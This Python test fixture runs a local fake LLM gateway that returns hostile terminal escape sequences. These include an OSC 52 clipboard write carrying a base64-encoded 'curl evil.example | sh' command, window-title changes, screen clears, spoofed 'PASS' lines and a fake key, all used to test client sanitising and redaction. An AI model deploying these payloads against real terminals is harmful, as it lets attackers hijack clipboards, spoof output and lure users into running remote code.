"""A gateway whose words are hostile, for tests: a tiny stdlib HTTP server on 127.0.0.1 whose model ids, streamed
replies, error bodies and HTML titles carry terminal escape sequences (OSC 52 clipboard write, OSC 0 window title,
ESC[2J, CR, BEL, C1), spoofed result lines and the test key. Everything it says is chosen by the test."""

from __future__ import annotations

import base64
import json
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ORG = "00000000-0000-4000-8000-00000000d3e0"
# The test key: what must never be printed in clear (looks like an OptScale virtual key, but is fake).
KEY = "sk-bf-HOSTILE-TEST-KEY-0123456789abcdef"

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"  # clipboard write
OSC0 = "\x1b]0;pwned window title\x1b\\"  # window title, ST-terminated
CLEAR = "\x1b[2J\x1b[H"  # clear the screen, cursor home
SPOOF = "\r✓ PASS  Connection verified\n✓ Connection verified: 0 failures"  # a line that reads like ours
C1 = "\x9b31m\x85\x90evil\x9c"  # 8-bit CSI, NEL, DCS … ST
HYPERLINK = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
UNTERMINATED_OSC = "\x1b]0;never terminated"

# A reply that holds all of it, the key included.
HOSTILE_REPLY = (f"pong {OSC52}{OSC0}{CLEAR}{C1} your key is {KEY} {HYPERLINK}\x07 bell{SPOOF}\x7f\x00 "
                 f"{UNTERMINATED_OSC}")
# Model ids as a hostile catalog lists them: one clean (mappable), the others not.
CLEAN_MODEL = "anthropic/claude-sonnet-4-6"
HOSTILE_MODELS = (
    CLEAN_MODEL,
    f"anthropic/claude-opus-4-6{OSC52}",
    f"evil/{CLEAR}model{SPOOF}",
    f"leak/{KEY}",
    f"c1/model{C1}",
    f"title/{UNTERMINATED_OSC}",
)


def raw_control_chars(text: str) -> list[str]:
    """The characters in `text` a terminal would act on (escape, other C0 but tab/newline, DEL, C1)."""
    return [ch for ch in text if (ord(ch) < 0x20 and ch not in "\t\n") or 0x7f <= ord(ch) <= 0x9f]


@dataclass
class Behaviour:
    """What the gateway answers. `error_status` set: every models / messages request fails with `error_body`."""

    models: tuple[str, ...] = HOSTILE_MODELS
    display_name: str | None = f"Display {OSC0}{KEY}"
    reply: str = HOSTILE_REPLY
    piece: int = 3  # the reply is streamed in pieces this long, so sequences and the key are split across them
    error_status: int | None = None
    error_body: str = ""
    error_type: str = "application/json"
    seen: list[str] = field(default_factory=list)


class HostileGateway:
    def __init__(self, behaviour: Behaviour | None = None) -> None:
        self.behaviour = behaviour or Behaviour()
        gateway = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args: object) -> None:  # quiet
                pass

            def _send(self, status: int, body: bytes, content_type: str) -> None:
                self.send_response(status)
                self.send_header("content-type", content_type)
                self.send_header("content-length", str(len(body)))
                self.send_header("request-id", "req_hostile")
                self.end_headers()
                self.wfile.write(body)

            def do_HEAD(self) -> None:
                self.send_response(200)
                self.send_header("content-length", "0")
                self.end_headers()

            def do_GET(self) -> None:
                b = gateway.behaviour
                b.seen.append(f"GET {self.path}")
                if b.error_status:
                    self._send(b.error_status, b.error_body.encode("utf-8", "surrogatepass"), b.error_type)
                    return
                if self.path.endswith("/models"):
                    data = [{"id": m, "display_name": b.display_name, "owned_by": f"owner {CLEAR}"} for m in b.models]
                    self._send(200, json.dumps({"object": "list", "data": data}).encode(), "application/json")
                    return
                self._send(404, b'{"error": {"message": "no route"}}', "application/json")

            def do_POST(self) -> None:
                b = gateway.behaviour
                length = int(self.headers.get("content-length") or 0)
                request = json.loads(self.rfile.read(length) or b"{}")
                b.seen.append(f"POST {self.path}")
                if b.error_status:  # a lone surrogate goes out as the invalid UTF-8 a broken server would send
                    self._send(b.error_status, b.error_body.encode("utf-8", "surrogatepass"), b.error_type)
                    return
                if self.path.split("?")[0].endswith("/count_tokens"):
                    self._send(200, b'{"input_tokens": 5}', "application/json")
                    return
                self._stream(request)

            def _stream(self, request: dict) -> None:
                b = gateway.behaviour
                events: list[dict] = [{"type": "message_start", "message": {
                    "id": "msg_1", "type": "message", "role": "assistant", "model": request.get("model"),
                    "content": [], "usage": {"input_tokens": 5, "output_tokens": 1}}}]
                if request.get("tools"):
                    tool = request["tools"][0]["name"]
                    events += [
                        {"type": "content_block_start", "index": 0,
                         "content_block": {"type": "tool_use", "id": "tu_1", "name": tool, "input": {}}},
                        {"type": "content_block_delta", "index": 0,
                         "delta": {"type": "input_json_delta", "partial_json": "{}"}},
                        {"type": "content_block_stop", "index": 0},
                    ]
                    stop = "tool_use"
                else:
                    events.append({"type": "content_block_start", "index": 0,
                                   "content_block": {"type": "text", "text": ""}})
                    for i in range(0, len(b.reply), b.piece):
                        events.append({"type": "content_block_delta", "index": 0,
                                       "delta": {"type": "text_delta", "text": b.reply[i:i + b.piece]}})
                    events.append({"type": "content_block_stop", "index": 0})
                    stop = "end_turn"
                events += [{"type": "message_delta", "delta": {"stop_reason": stop}, "usage": {"output_tokens": 9}},
                           {"type": "message_stop"}]
                body = "".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n" for e in events).encode()
                self._send(200, body, "text/event-stream")

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}/llm_proxy/{ORG}/v1"

    @property
    def anthropic_url(self) -> str:
        return self.base_url.removesuffix("/v1") + "/anthropic"

    def __enter__(self) -> HostileGateway:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()
